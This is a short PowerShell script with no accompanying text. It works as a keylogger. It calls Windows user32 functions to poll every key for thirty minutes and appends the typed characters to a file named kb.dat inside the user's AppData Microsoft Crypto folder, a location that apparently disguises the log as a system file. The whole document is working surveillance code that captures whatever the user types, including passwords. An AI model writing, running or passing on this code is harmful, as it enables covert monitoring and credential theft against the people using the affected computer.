$logFile = "$env:APPDATA\Microsoft\Crypto\kb.dat"

$signature = @'
[DllImport("user32.dll", CharSet = CharSet.Auto, ExactSpelling = true)]
public static extern short GetAsyncKeyState(int virtualKeyCode);
[DllImport("user32.dll", CharSet = CharSet.Auto)]
public static extern int GetKeyboardState(byte[] keystate);
[DllImport("user32.dll", CharSet = CharSet.Auto)]
public static extern int MapVirtualKey(uint uCode, int uMapType);
[DllImport("user32.dll", CharSet = CharSet.Auto)]
public static extern int ToUnicode(uint wVirtKey, uint wScanCode, byte[] lpkeystate, System.Text.StringBuilder pwszBuff, int cchBuff, uint wFlags);
'@
$api = Add-Type -MemberDefinition $signature -Name 'Win32Kb' -Namespace API -PassThru

$end = (Get-Date).AddMinutes(30)
while ((Get-Date) -lt $end) {
    Start-Sleep -Milliseconds 40
    for ($vk = 8; $vk -le 254; $vk++) {
        if ($api::GetAsyncKeyState($vk) -eq -32767) {
            $state = New-Object byte[] 256
            $null = $api::GetKeyboardState($state)
            $sc = $api::MapVirtualKey($vk, 3)
            $sb = New-Object System.Text.StringBuilder
            if ($api::ToUnicode($vk, $sc, $state, $sb, $sb.Capacity, 0)) {
                [IO.File]::AppendAllText($logFile, $sb.ToString(), [Text.Encoding]::Unicode)
            }
        }
    }
}
